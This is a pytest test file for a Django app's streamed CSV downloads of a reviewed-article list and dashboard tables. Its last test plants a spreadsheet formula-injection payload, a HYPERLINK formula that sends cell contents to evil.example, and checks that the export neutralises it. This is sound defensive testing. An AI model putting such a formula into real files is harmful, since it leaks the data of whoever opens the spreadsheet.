"""CSV downloads: the filtered article list and each dashboard table, streamed row by row
and holding exactly what the page shows."""

from urllib.parse import urlencode

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests.reporting.factories import (
    ARTICLES,
    DASHBOARD,
    TODAY,
    bulk_due_articles,
    csv_of,
    days,
    follow,
    get_page,
    listed,
    login,
    panel,
    table_rows,
    text,
)
from tests.reviews.cycles.factories import reviewed_on_for

pytestmark = pytest.mark.django_db

LIST_HEADER = [
    "Article",
    "Title",
    "Specialty",
    "Review Date",
    "Next review due",
    "Days overdue",
    "Open review",
    "Reviewer",
]


@pytest.fixture
def director(client, brenda, encyclopedia):
    login(client, brenda)
    return client


def download_link(page) -> str:
    return next(a["href"] for a in page.find_all("a") if text(a) == "Download CSV")


def test_the_list_downloads_as_csv_with_the_filters_in_force(director, cardiology, encyclopedia):
    page = get_page(director, ARTICLES, {"status": "overdue", "specialty": cardiology.pk})

    response = director.get(follow(download_link(page)))

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="articles-{TODAY}.csv"'
    rows = csv_of(response)

    def row(title, late, state, reviewer):
        due = TODAY - days(late)
        number = encyclopedia.articles[title].number
        reviewed = str(reviewed_on_for(due))
        return [number, title, "Cardiology", reviewed, str(due), str(late), state, reviewer]

    assert rows == [
        LIST_HEADER,
        row("Angina", 400, "open", "Ngozi Okafor, MD"),
        row("Aortic stenosis", 200, "open", ""),
        row("Atrial fibrillation", 120, "open", "Ngozi Okafor, MD"),
        row("Bradycardia", 45, "in_progress", "Ngozi Okafor, MD"),
        row("Cardiomyopathy", 10, "open", ""),
    ]


def test_the_csv_holds_the_same_articles_as_the_list_in_the_same_order(director):
    for params in ({}, {"state": "none"}, {"sort": "title"}, {"bucket": "overdue_91_180"}):
        query = "?" + urlencode(params)
        on_page = [row["number"] for row in listed(director, query)]

        in_csv = [row[0] for row in csv_of(director.get(ARTICLES, {**params, "format": "csv"}))]

        assert in_csv == ["Article", *on_page], params


def test_the_csv_is_read_from_the_database_while_it_streams(client, brenda, maria, cardiology):
    bulk_due_articles(2_100, due_on=TODAY - days(3), specialty=cardiology, author=maria)
    login(client, brenda)

    with CaptureQueriesContext(connection) as before:
        response = client.get(ARTICLES, {"format": "csv"})
    with CaptureQueriesContext(connection) as streaming:
        rows = csv_of(response)

    assert len(rows) == 2_101
    assert not any("encyclopedia_article" in q["sql"] for q in before.captured_queries)
    assert any("encyclopedia_article" in q["sql"] for q in streaming.captured_queries)


@pytest.mark.parametrize(
    ("table", "heading"),
    [("age", "Overdue by age"), ("specialties", "By specialty"), ("reviewers", "By reviewer")],
)
def test_each_dashboard_table_downloads_as_the_csv_of_its_numbers(director, table, heading):
    section = panel(get_page(director, DASHBOARD), heading)
    link = download_link(section)

    response = director.get(link)

    assert link == reverse("reporting:dashboard-csv", args=[table])
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == f'attachment; filename="{table}-{TODAY}.csv"'
    header, *rows = csv_of(response)
    shown = [[cell.replace("—", "") for cell in row] for row in table_rows(section)]
    assert rows == shown
    assert len(header) == len(section.select("thead th"))


def test_the_age_csv_counts_each_bucket(director):
    rows = csv_of(director.get(reverse("reporting:dashboard-csv", args=["age"])))

    assert rows == [
        ["Overdue by", "Articles"],
        ["1–30 days", "1"],
        ["31–90 days", "1"],
        ["91–180 days", "2"],
        ["181–365 days", "1"],
        ["Over 365 days", "1"],
    ]


def test_the_reviewers_csv_lists_each_reviewer_with_their_numbers(director):
    rows = csv_of(director.get(reverse("reporting:dashboard-csv", args=["reviewers"])))

    assert rows == [
        ["Reviewer", "Open reviews", "Overdue", "Workload", "Capacity",
         "Median days to complete", "Licence expires"],
        ["Ngozi Okafor, MD", "3", "3", "4", "10", "", "2027-06-30"],
    ]  # fmt: skip


def test_an_unknown_table_is_not_found(director):
    response = director.get("/work/dashboard/passwords.csv")

    assert response.status_code == 404


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(director, okafor):
    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    type(okafor).objects.filter(pk=okafor.pk).update(credit_name=attack)

    rows = csv_of(director.get(reverse("reporting:dashboard-csv", args=["reviewers"])))

    assert rows[1][0] == "'" + attack
